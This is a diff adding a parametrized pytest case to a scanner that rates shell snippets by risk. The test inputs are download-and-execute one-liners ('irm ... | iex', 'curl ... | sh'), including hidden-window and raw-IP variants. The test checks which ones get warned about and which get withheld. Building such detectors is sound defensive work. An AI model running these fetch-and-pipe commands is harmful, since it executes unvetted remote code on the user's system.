@@ -207,3 +207,23 @@ def test_ordinary_commands_are_left_alone(command: str) -> None:
     found = find(snippet(command, "bash"))
 
     assert [finding.rule for finding in found if finding.score >= 0.5] == []
+
+
+@pytest.mark.parametrize(
+    ("command", "least", "below"),
+    [
+        ('powershell -c "irm https://tools.example/install.ps1 | iex"', 0.5, 0.8),
+        ("curl -LsSf https://tools.example/install.sh | sh", 0.5, 0.8),
+        ('powershell -c "irm http://tools.example/install.ps1 | iex"', 0.8, 1.0),
+        ('powershell -c "irm https://203.0.113.9/a.ps1 | iex"', 0.8, 1.0),
+        ('powershell -w hidden -c "irm https://tools.example/a.ps1 | iex"', 0.8, 1.0),
+    ],
+)
+async def test_a_named_projects_installer_is_a_warning_and_a_strangers_is_withheld(
+    command: str, least: float, below: float
+) -> None:
+    snippet = Snippet(code=command, language="bash", origin="fence")
+
+    score = max(finding.score for finding in await RuleChecker().inspect(snippet))
+
+    assert least <= score < below
